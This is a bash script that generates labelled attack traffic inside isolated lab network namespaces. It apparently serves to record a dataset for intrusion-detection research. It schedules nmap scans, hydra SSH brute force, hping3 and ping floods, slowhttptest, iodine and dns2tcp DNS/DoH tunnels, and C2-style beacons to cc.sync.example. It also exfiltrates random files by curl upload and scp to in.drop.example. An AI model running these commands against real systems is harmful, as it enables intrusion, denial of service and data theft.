# shellcheck shell=bash
# The attacks of the test recording.  Sourced by `run`.
#
# Each kind has attackers of its own, so that the address tells the label.
# Everything here goes to hosts of the lab only: the namespaces have no other
# way out.

# say LABEL HOST START: the line of the labels file
say() {
    local end
    # late answers and resets count as well: the address has no other life
    end=$(($(date +%s) + 30))
    printf '%s,%s,%.6f,%.6f\n' "$1" "$(addr "$2")" "$3" "$end" >>"$LABELS"
    printf '%s,%s,%.6f,%.6f\n' "$1" "$(addr6 "$2")" "$3" "$end" >>"$LABELS"
}

# at PERCENT LABEL HOST CMD...: later, in the background
at() {
    local percent=$1 label=$2 host=$3 start
    shift 3
    RANDOM=$((RANDOM + SEEDED))     # children must not share one sequence
    (
        sleep "$(awk -v p="$percent" -v s="$SECONDS_ALL" -v r=$RANDOM \
            'BEGIN { print p * s / 100 + r / 8192 }')"
        # no attack outlives the recording
        left=$(awk -v e="$END_AT" -v n="$(date +%s.%N)" \
            'BEGIN { print int(e - n) }')
        [ "$left" -gt 5 ] || exit 0
        start=$(date +%s.%N)
        LEFT=$left "$@" </dev/null >>"$TMP/log/attack.$label.log" 2>&1
        sleep 1
        say "$label" "$host" "$start"
    ) &
    ATTACK_PIDS+=($!)
}

# lim SECONDS HOST CMD...: as that host, for so long at most
lim() {
    local most=$1 host=$2
    shift 2
    [ "$most" -lt "${LEFT:-9999}" ] || most=$LEFT
    on "$host" timeout -k 2 "$most" "$@"
}

wget_size() {       # HOST URL ...: a small download
    local host=$1
    shift
    lim 30 "$host" curl -s -o /dev/null --max-time 25 "$@"
}

some_file() {       # KB: a file of random size about that in $FILE
    FILE=$TMP/loot.$BASHPID
    head -c $(((RANDOM % 100 + 50) * $1 * 10 + RANDOM)) /dev/urandom >"$FILE"
}

guesses() {
    local i
    for ((i = 0; i < $1; i++)); do echo "pass$RANDOM"; done
}

brute() {           # TASKS GUESSES USER
    local list=$TMP/guess.$BASHPID
    guesses "$2" >"$list"
    lim 120 a-ssh hydra -q -l "$3" -P "$list" -t "$1" -w 10 -I \
        "ssh://$(addr files)"
}

# Data through an open tunnel.  use_tunnel HOST BASE-URL SECONDS
use_tunnel() {
    local host=$1 url=$2 stop=$((SECONDS + $3))
    while [ $SECONDS -lt $stop ]; do
        case $((RANDOM % 5)) in
        0 | 1) wget_size "$host" "$url/a/$((RANDOM % 300))" ;;
        2) wget_size "$host" "$url/app/state" ;;
        3)
            some_file 1
            wget_size "$host" --data-binary "@$FILE" "$url/app/put"
            rm -f "$FILE"
            ;;
        4) sleep $((RANDOM % 6)) ;;
        esac
        sleep "0.$((RANDOM % 10))"
    done
}

tunnel_ip() {       # HOST RESOLVER SECONDS: iodine
    local host=$1 pid
    # what is sent when the tunnel is down again stays at home
    ip -n "$PREFIX$host" route replace unreachable 10.99.0.0/24 metric 9999
    lim $(($3 + 15)) "$host" iodine -f -r -P secret "$2" tn.example &
    pid=$!
    wait_for "iodine on $host" \
        sh -c "ip -n $PREFIX$host addr show | grep -q 10.99.0"
    # somebody works over it as well
    (
        for _ in 1 2 3 4; do
            lim 20 "$host" ssh -F /dev/null -o BatchMode=yes -i "$TMP/user_key" \
                -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
                root@10.99.0.1 'for i in 1 2 3 4 5 6; do uptime; sleep 1; done'
            sleep $((RANDOM % 9 + 1))
        done
    ) &
    use_tunnel "$host" http://10.99.0.1 "$3"
    pkill -P "$pid" 2>/dev/null
    kill "$pid" 2>/dev/null
    ip netns pids "$PREFIX$host" | while read -r p; do
        case $(cat "/proc/$p/comm" 2>/dev/null) in
        iodine | ssh) kill "$p" ;;
        esac
    done
}

tunnel_tcp() {      # HOST RESOLVER SECONDS: dns2tcp
    local host=$1
    lim $(($3 + 15)) "$host" dns2tcpc -z td.example -r web -l 8888 "$2" &
    sleep 3
    use_tunnel "$host" http://127.0.0.1:8888 "$3"
    ip netns pids "$PREFIX$host" | while read -r p; do
        case $(cat "/proc/$p/comm" 2>/dev/null) in
        dns2tcpc) kill "$p" ;;
        esac
    done
}

beacon() {          # HOST SERVER PERIOD JITTER-PERCENT MORE...
    local host=$1 server=$2 period=$3 jitter=$4
    shift 4
    while [ "$(date +%s)" -lt "${END_AT%.*}" ]; do
        wget_size "$host" --cacert "$TMP/ca.pem" \
            --resolve "cc.sync.example:443:$(addr "$server")" "$@" \
            -d "id=8f3a&n=$((RANDOM % 1000))" \
            https://cc.sync.example/app/state
        sleep "$(awk -v p="$period" -v j="$jitter" -v r=$RANDOM \
            'BEGIN { print p * (1 + j / 100 * (r / 16384 - 1)) }')"
    done
}

steal() {           # KBYTES [curl options]: files leave over HTTPS
    local n
    n=$1
    shift
    some_file "$n"
    lim 90 b-exf curl -s -o /dev/null --cacert "$TMP/ca.pem" --max-time 80 \
        --resolve "in.drop.example:443:$(addr drop)" "$@" \
        -T "$FILE" "https://in.drop.example/put/$RANDOM"
    rm -f "$FILE"
}

steal_ssh() {
    some_file "$1"
    lim 60 b-exf scp -q -F /dev/null -i "$TMP/user_key" -o BatchMode=yes \
        -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        "$FILE" "root@$(addr drop):/dev/null"
    rm -f "$FILE"
}

# attacks SECONDS SEED LABELSFILE
attacks() {
    SECONDS_ALL=$1
    SEEDED=$2
    LABELS=$3
    END_AT=$(awk -v n="$(date +%s.%N)" -v s="$1" 'BEGIN { printf "%f", n + s - 8 }')
    RANDOM=$2
    ATTACK_PIDS=()
    cd "$TMP" || return         # hydra leaves a file where it runs
    : >"$LABELS"
    local web files mail doh scan=(nmap -n -Pn)
    web=$(addr web)
    files=$(addr files)
    mail=$(addr mail)
    doh=$(addr doh)
    local long=$((SECONDS_ALL * 13 / 100))

    at 3 scan-slow a-slow lim 9999 a-slow "${scan[@]}" -sS --scan-delay 2.2s \
        --max-scan-delay 3s --top-ports $((SECONDS_ALL * 36 / 100)) "$web"
    at 6 scan-syn a-syn lim 60 a-syn "${scan[@]}" -sS -T4 --top-ports 130 "$web"
    at 52 scan-syn a-syn lim 60 a-syn "${scan[@]}" -sS --top-ports 90 "$files"
    at 18 scan-connect a-conn lim 60 a-conn "${scan[@]}" -sT --top-ports 110 "$mail"
    at 64 scan-connect a-conn lim 60 a-conn "${scan[@]}" -6 -sT --top-ports 90 \
        "$(addr6 web)"
    at 27 scan-udp a-udp lim 75 a-udp "${scan[@]}" -sU --top-ports 70 \
        --max-retries 1 "$web"
    at 72 scan-udp a-udp lim 60 a-udp "${scan[@]}" -sU --top-ports 40 \
        --max-retries 1 "$mail"
    at 33 scan-version a-ver lim 110 a-ver "${scan[@]}" -sV -p 21,22,80,443 "$files"
    at 48 scan-version a-ver lim 110 a-ver "${scan[@]}" -sV \
        -p 22,25,80,143,443,993,8080 "$web" "$mail"
    at 76 scan-sweep b-scan lim 60 b-scan "${scan[@]}" -sS --disable-arp-ping \
        -p 22,80,443,445,3389,8080 10.20.1.10-12 10.20.1.20 10.20.1.53 \
        10.20.2.11-18 10.20.2.31-33

    at 22 ssh-brute a-ssh brute 4 260 root
    at 68 ssh-brute a-ssh brute 2 110 admin

    at 38 syn-flood a-flood lim 30 a-flood hping3 -q -S -p 80 -i u18000 \
        -c 260 "$web"
    at 80 syn-flood a-flood lim 30 a-flood hping3 -q -S -p 443 -i u9000 \
        -c 200 "$web"
    at 12 icmp-flood a-icmp lim 30 a-icmp hping3 -q -1 -i u15000 -c 300 "$web"
    at 45 icmp-flood a-icmp lim 30 a-icmp hping3 -q -1 -d 600 -i u25000 \
        -c 200 "$files"
    at 83 icmp-flood a-icmp lim 30 a-icmp ping -q -f -c 300 "$mail"

    at 42 slow-http a-http lim 70 a-http slowhttptest -H -c 60 -r 12 -i 7 \
        -l 55 -u "http://$web/"
    at 70 slow-http a-http lim 60 a-http slowhttptest -B -c 40 -r 8 -i 6 \
        -l 45 -s 8192 -u "http://$web/app/form"
    at 86 slow-http a-http lim 40 a-http slowhttptest -X -c 25 -r 10 -l 30 \
        -w 20 -y 60 -n 4 -z 16 -u "http://$web/big/1"

    local p
    for p in 5 29 54 81; do
        at $p dns-tunnel b-dns tunnel_ip b-dns "$doh" "$long"
    done
    # through our own resolver, which shows its queries to the tunnel's name
    # server as well: one flow each, so this is short
    at 16 dns-tunnel b-dns2 tunnel_tcp b-dns2 "$(addr ns)" 9
    for p in 41 67; do
        at $p dns-tunnel b-dns2 tunnel_tcp b-dns2 "$doh" $((long / 2))
    done
    at 15 dns-tunnel-upstream tund2 sleep $((SECONDS_ALL * 82 / 100))
    for p in 18 40 60 80; do
        at $p doh-tunnel b-doh tunnel_ip b-doh 127.0.0.1 "$long"
    done
    for p in 4 13 25 37 50 62 74 85; do
        at $p doh-tunnel b-doh2 tunnel_tcp b-doh2 127.0.0.1 \
            $((SECONDS_ALL * 5 / 100 + 3))
    done

    at 8 exfil b-exf steal 1500
    at 20 exfil b-exf steal 700 --limit-rate 60k
    at 31 exfil b-exf steal_ssh 900
    at 44 exfil b-exf steal 1100 --http1.1
    at 57 exfil b-exf steal 800 --limit-rate 150k
    at 65 exfil b-exf steal_ssh 500
    at 77 exfil b-exf steal 1200 --http2
    at 14 exfil b-exf steal 300
    at 38 exfil b-exf steal 450
    at 51 exfil b-exf steal_ssh 350
    at 71 exfil b-exf steal 250 --http1.1
    at 88 exfil b-exf steal 600

    at 2 beacon b-c2 beacon b-c2 c2 8 12
    at 3 beacon b-c2b beacon b-c2b c2b 15 4 --http1.1

    wait "${ATTACK_PIDS[@]}"
    sort -t, -k3,3n -o "$LABELS" "$LABELS"
    sed -i '1i label,address,start,end' "$LABELS"
}
